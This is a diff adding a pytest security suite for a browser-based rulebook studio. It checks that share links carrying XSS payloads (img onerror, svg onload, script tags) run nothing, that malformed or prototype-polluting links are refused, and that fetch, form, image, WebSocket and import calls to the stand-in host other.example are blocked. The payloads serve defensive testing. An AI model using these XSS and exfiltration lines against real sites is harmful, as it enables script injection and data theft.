@@ -1,0 +1,232 @@
+"""Nothing leaves the built page and nothing strange ends it: links of anybody, other servers, a runtime that fails."""
+
+import functools
+import gzip
+import threading
+import time
+from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from typing import ClassVar
+
+import pytest
+from rulelang_studio import STATIC
+from rulelang_studio.link import fragment
+
+from rulelang.tools.studio.site import export, find_site
+from tests.studio.conftest import serving
+from tests.studio.page import START, of_page, packed
+
+pytestmark = of_page
+
+
+def test_it_is_as_small_as_promised(opened):
+    opened.seen.clear()
+    opened.open("?plain")
+    asked = [name or "index.html" for _, name, _ in opened.seen if name != "folder.json"]
+    assert {"app.js", "bundle.zip", "pyodide/pyodide.asm.wasm"} <= set(asked)
+    assert "memory.bin" not in asked
+    assert sum(len(gzip.compress((STATIC / name).read_bytes(), 6)) for name in asked) <= 10_500_000
+    opened.open()
+
+
+HOSTILE = """rulebook "<img src=x onerror=window.hit=1></script><script>window.hit=2</script>" version "1"
+currency EUR
+members have
+    fund : money
+waterfall "<svg onload=window.hit=3>"
+    tranche own "</title><img src=x onerror=window.hit=4>" cite "<b>x</b>"
+        paid by defaulters from fund
+    finally rest "<script>window.hit=5</script>"
+ensure "<img src=x onerror=window.hit=6>":
+    loss > EUR 90
+test "<img src=x onerror=window.hit=7>"
+    declared 2025-01-01
+    member A
+        fund = EUR 1
+    default of A loss EUR 2
+    expect own pays EUR 2
+"""
+
+
+HOSTILE_EVENT = """event "<img src=x onerror=window.hit=8>"
+declared 2025-01-01
+member "<img src=x onerror=window.hit=9>" "<img src=x onerror=window.hit=10>"
+    fund = EUR 1
+default of "<img src=x onerror=window.hit=9>" loss EUR 9.50
+"""
+
+
+def test_a_hostile_link_runs_nothing(page):
+    name = "<img src=x onerror=window.hit=11>.rules"
+    page.open(
+        fragment(
+            {name: HOSTILE, "other.rules": HOSTILE.replace("EUR 90", "EUR 9"), "a.event": HOSTILE_EVENT},
+            left=name,
+            right="a.event",
+        )
+    )
+    for tab in ("pays", "explain", "losses", "compare", "tests", "problems"):
+        shown = page.tab(tab)
+        assert "<img src=x" in shown or tab in ("losses", "problems"), tab
+    page.click("#tab-pays")
+    for place in ("#panel-pays .cell", "#share", "#save", "#open", "#left-files"):
+        page.click(place)
+        page.settle()
+    page.js("document.getElementById('dialog').close()")
+    assert page.js("return window.hit") is None
+    assert page.js("return document.querySelectorAll('img, script:not([src]), main svg script').length") == 0
+
+
+@pytest.mark.parametrize(
+    ("given", "words"),
+    [
+        ("#state=!!!", "damaged"),
+        ("#state=AAAA", "damaged"),
+        (packed(b"not JSON"), "damaged"),
+        (packed({"v": 2, "files": {"a.rules": ""}}), "another version"),
+        (packed({"v": 1}), "no files"),
+        (packed({"v": 1, "files": {}}), "no files"),
+        (packed({"v": 1, "files": {"../a.rules": ""}}), "no text of this page"),
+        (packed({"v": 1, "files": {"a.rules": {"toString": "x"}}}), "no text of this page"),
+        (packed({"v": 1, "files": {"__proto__": "x"}}), "no text of this page"),
+        (packed({"v": 1, "files": {"a.html": "x"}}), "no text of this page"),
+        (packed({"v": 1, "files": {"a.rules": "#" * 200_001}}), "200,000"),
+        (packed(b"[" * 20_000_000), "more than this page takes"),
+    ],
+)
+def test_a_link_that_is_none_is_refused_with_words(page, given, words):
+    page.js("location.hash = arguments[0]", given)
+    page.until("document.getElementById('dialog').open")
+    assert words in page.text("#dialog")
+    assert "Nasdaq" in page.js("return studio.editors.left.text")
+    page.js("history.replaceState(null, '', '#')")
+
+
+def test_too_much_text_is_refused_kindly(page):
+    before = page.js("return studio.editors.left.text")
+    page.js("const v = studio.editors.left.view; v.dispatch({changes: {from: 0, insert: '#'.repeat(4_000_000)}})")
+    page.until("document.getElementById('dialog').open")
+    assert "this page takes 200,000" in page.text("#dialog")
+    assert page.js("return studio.editors.left.text") == before
+
+
+def test_a_runtime_that_fails_starts_again_and_no_text_is_lost(page):
+    page.write("left", page.js("return studio.editors.left.text") + "# mine\n")
+    page.settle()
+    deep = "let deep = []; for (let n = 0; n < 100_000; n += 1) deep = [deep];"
+    broken = f"{deep} studio.engine.ask({{ask: 'unzip', data: deep}}).catch((error) => (window.broken = error.message))"
+    page.js(broken)
+    page.until("!studio.engine.ready")
+    assert "Your texts are as they were" in page.until("window.broken")
+    page.write("left", page.js("return studio.editors.left.text") + "# meanwhile\n")
+    page.until("studio.engine.ready", seconds=START)
+    page.settle()
+    assert page.js("return studio.editors.left.text").endswith("# mine\n# meanwhile\n")
+    assert "19,337,349.40" in page.tab("pays")
+
+
+def test_nothing_leaves_the_page(page):
+    page.seen.clear()
+    page.write("left", page.js("return studio.editors.left.text") + "# secret\n")
+    for tab in ("pays", "explain", "losses", "compare", "tests", "problems"):
+        page.tab(tab)
+    page.click("#share")
+    page.until("document.querySelector('#link')")
+    page.js("document.getElementById('dialog').close()")
+    assert page.seen == []
+    refused = (
+        "const done = arguments[0]; fetch('http://other.example/?x').then(() => done('sent'), () => done('refused'))"
+    )
+    assert page.driver.execute_async_script(refused) == "refused"
+    form = "const f = document.createElement('form'); f.action = 'http://other.example/'; document.body.append(f);"
+    page.js(f"{form} f.submit()")
+    image = "const i = new Image(); i.src = 'http://other.example/i.png'; document.body.append(i)"
+    page.js(image)
+    time.sleep(0.5)
+    assert [each for each in page.others if "other.example" in each] == []
+    assert all(method == "GET" and length == 0 for method, _, length in page.seen)
+    assert "Nothing leaves this page" in page.text("#promise")
+    page.js("document.querySelectorAll('form, body > img').forEach((each) => each.remove())")
+
+
+def test_the_proxy_would_have_seen_it(opened):
+    opened.driver.get("http://control.example/")
+    assert any("control.example" in each for each in opened.others)
+    opened.open()
+    hosts = {each.split("/")[2] for each in opened.others if each.startswith("GET http")}
+    assert {host for host in hosts if not host.endswith(".google.com")} == {"control.example"}  # the browser's own
+
+
+class _Plain(SimpleHTTPRequestHandler):
+    """Any web server: it sends files, and nothing along with them."""
+
+    extensions_map: ClassVar[dict[str, str]] = {**SimpleHTTPRequestHandler.extensions_map, ".mjs": "text/javascript"}
+
+    def log_message(self, *words):
+        pass
+
+
+@pytest.fixture
+def exported(tmp_path):
+    """A copy of the page on a web server that knows nothing of it; the address."""
+    export(find_site(), tmp_path / "public")
+    handler = functools.partial(_Plain, directory=tmp_path / "public")
+    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as plain:
+        thread = threading.Thread(target=plain.serve_forever)
+        thread.start()
+        yield tmp_path / "public", f"http://127.0.0.1:{plain.server_port}/"
+        plain.shutdown()
+        thread.join()
+
+
+def test_a_copy_on_any_web_server_lets_nothing_out(page, exported):
+    folder, address = exported
+    tries = (
+        "await Promise.allSettled([() => import('http://other.example/a.mjs'), () => fetch('http://other.example/b'),"
+        "() => fetch('http://other.example/c', { method: 'POST', mode: 'no-cors', body: 'text' }),"
+        "() => new FontFace('x', 'url(http://other.example/d)').load(), () => new Promise((done) => {"
+        "new WebSocket('ws://other.example/e').onerror = done })].map(async (attempt) => attempt()));\n"
+    )
+    worker = folder / "worker.js"
+    worker.write_text(tries + worker.read_text("utf-8"), encoding="utf-8")
+    page.driver.get(address)
+    page.until("window.studio && studio.engine.ready", seconds=START)
+    page.settle()
+    assert "19,337,349.40" in page.tab("pays")
+    assert [each for each in page.others if "other.example" in each] == []
+    page.open()
+
+
+def test_it_works_without_its_server(page):
+    with serving(find_site()) as other:
+        page.driver.get(other.address)
+        page.until("window.studio && studio.engine.ready", seconds=START)
+        page.settle()
+    for tab, words in {
+        "explain": "The default",
+        "tests": "5 of 5",
+        "compare": "Edits",
+        "pays": "19,337,349.40",
+    }.items():
+        page.write("right", page.js("return studio.editors.right.text") + "\n")
+        assert words in page.tab(tab)
+    page.open()
+
+
+def test_the_memory_is_an_accelerator_only(page, tmp_path):
+    assert page.js("return studio.engine.marks.memory") is True
+    with_memory = page.js("return studio.engine.marks.package")
+    page.open("?plain")
+    assert page.js("return studio.engine.marks.memory") is None
+    assert page.js("return studio.engine.marks.package") > with_memory
+    (tmp_path / "damaged").write_bytes(
+        gzip.compress(gzip.decompress((STATIC / "memory.bin").read_bytes())[:20_000_000])
+    )
+    (tmp_path / "nothing").write_bytes(b"\x1f\x8bnothing")
+    for name in ("damaged", "nothing"):
+        with serving({**find_site(), "memory.bin": tmp_path / name}) as other:
+            page.driver.get(other.address)
+            page.until("window.studio && studio.engine.ready", seconds=START)
+            page.settle()
+            assert page.js("return studio.engine.marks.memory") is None
+            assert "19,337,349.40" in page.tab("pays")
+    page.open()
